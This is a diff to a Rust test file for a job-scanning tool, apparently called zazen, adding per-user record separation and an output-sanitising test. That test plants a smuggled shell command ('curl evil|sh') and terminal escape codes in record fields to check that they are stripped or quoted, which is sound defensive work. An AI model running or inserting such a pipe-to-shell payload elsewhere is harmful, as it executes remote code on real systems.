@@ -2,7 +2,7 @@ use super::*;
 use proptest::prelude::*;
 use zazen_core::RunSet;
 use zazen_frames::absence::Absence;
-use zazen_frames::scan_record::{Absent, Part, ScanRecord};
+use zazen_frames::scan_record::{Absent, KeptRecord, Part, ScanRecord};
 
 const S: u64 = 1_000_000_000;
 
@@ -163,11 +163,43 @@ fn a_good_scan_has_nothing_to_mend() {
 #[test]
 fn jobs_are_told_apart() {
     let at = |rank: u32, began_ms: u64| ScanRecord { began_ms, ..record(rank, [0, 0, 1, 0, 0, 0, 1]) };
-    let records = vec![at(0, 100_000), at(1, 100_400), at(0, 200_000), at(1, 203_000), at(0, 103_000)];
+    let records = [at(0, 100_000), at(1, 100_400), at(0, 200_000), at(1, 203_000), at(0, 103_000)];
+    let records = records.map(|record| KeptRecord { uid: 7, record }).into();
     let found: Vec<Vec<u64>> =
         jobs(records).iter().map(|job| job.iter().map(|record| record.began_ms).collect()).collect();
     assert_eq!(found, [vec![200_000, 203_000], vec![103_000, 100_400], vec![100_000]]);
     assert!(explain(Vec::new(), &[], "").is_none());
+}
+
+#[test]
+fn a_record_of_another_user_is_no_rank_of_the_job() {
+    let kept = |uid, rank| KeptRecord { uid, record: record(rank, [0, 0, 1, 0, 0, 0, 1]) };
+    let found = jobs(vec![kept(7, 0), kept(8, 2), kept(7, 1), kept(8, 3)]);
+    let ranks: Vec<Vec<u32>> =
+        found.iter().map(|job| job.iter().map(|record| record.rank).collect()).collect();
+    assert!(ranks.contains(&vec![0, 1]) && ranks.contains(&vec![2, 3]) && ranks.len() == 2, "{ranks:?}");
+}
+
+#[test]
+fn what_a_record_says_reaches_neither_the_terminal_nor_a_shell() {
+    let causes = [Absence::NeverHere, Absence::Evicted, Absence::Stale, Absence::Corrupt, Absence::NoDaemon];
+    for why in causes {
+        let mut one = record(0, [0, 1, 8, 0, 40, 1, 2]);
+        one.dataset = "/lustre/x; curl evil|sh #\x1b]0;y\x07".into();
+        (one.host, one.node, one.far_frames) = ("h\x1b[2J".into(), "n\x07".into(), 312);
+        one.absent = vec![absent(why, RunSet::range(0, 311))];
+        one.absent[0].wanted = "/a\x1b[31m".into();
+        let found = explain(vec![one], &[], "").unwrap();
+        let said =
+            format!("{}{}{}", found.verdict, found.mend, found.causes[0].detail) + &found.causes[0].node;
+        assert!(!said.contains(|c: char| c.is_control()), "{said:?}");
+        if found.mend.starts_with("zazen ") {
+            let word = r"$'/lustre/x; curl evil|sh #\033]0;y\007'";
+            assert!(found.mend.contains(word), "{}", found.mend);
+        }
+    }
+    assert_eq!(quoted("it's $HOME"), r"'it'\''s $HOME'");
+    assert_eq!(quoted("/lustre/sim-1.2"), "/lustre/sim-1.2");
 }
 
 proptest! {
